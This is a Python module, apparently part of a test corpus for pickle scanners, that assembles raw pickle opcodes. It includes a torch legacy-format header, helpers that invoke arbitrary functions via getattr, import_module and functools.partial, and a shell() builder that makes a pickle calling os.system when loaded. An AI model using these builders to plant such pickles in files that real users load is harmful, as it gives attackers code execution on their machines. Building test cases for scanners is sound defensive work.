"""An assembler for pickles: values in opcodes, as no pickler would write them.

Each function returns the opcodes that leave one value on the stack; `pickled` makes a file of one.
Source: CPython's Lib/pickletools.py.
"""

from __future__ import annotations

import pickle

from bench.corpus.case import COMMAND

NONE, TRUE, EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST = b"N", b"\x88", b")", b"}", b"]"

# What torch's legacy format begins with: a magic number, a version, and the system it was made on.
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_HEAD = b"".join((pickle.dumps(LEGACY_MAGIC, 2), pickle.dumps(1001, 2), pickle.dumps({}, 2)))


def text(value: str) -> bytes:
    raw = value.encode("utf-8")
    return b"X" + len(raw).to_bytes(4, "little") + raw


def short(value: str) -> bytes:
    raw = value.encode("utf-8")
    return b"\x8c" + len(raw).to_bytes(1, "little") + raw


def octets(value: bytes) -> bytes:
    return b"B" + len(value).to_bytes(4, "little") + value


def number(value: int) -> bytes:
    return b"J" + value.to_bytes(4, "little", signed=True)


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def stacked(module: str, attribute: str) -> bytes:
    return short(module) + short(attribute) + b"\x93"


def several(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def listed(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def mapped(*pairs: tuple[str, bytes]) -> bytes:
    return b"(" + b"".join(text(key) + value for key, value in pairs) + b"d"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + several(*arguments) + b"R"


def attribute(value: bytes, key: str) -> bytes:
    return call(name("builtins", "getattr"), value, text(key))


def method(value: bytes, key: str, *arguments: bytes) -> bytes:
    return call(attribute(value, key), *arguments)


def module(key: str) -> bytes:
    return call(name("importlib", "import_module"), text(key))


def partial(function: bytes, *arguments: bytes, **keywords: bytes) -> bytes:
    """A functools.partial with keywords, which REDUCE cannot give: they come by its state."""
    empty = call(name("functools", "partial"), function)
    named = mapped(*keywords.items())
    return empty + several(function, several(*arguments), named, NONE) + b"b"


def called_with(function: bytes, *arguments: bytes, **keywords: bytes) -> bytes:
    return call(partial(function, *arguments, **keywords))


def pickled(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def shell() -> bytes:
    """The plainest of all payloads, as a value."""
    return call(name("os", "system"), text(COMMAND))
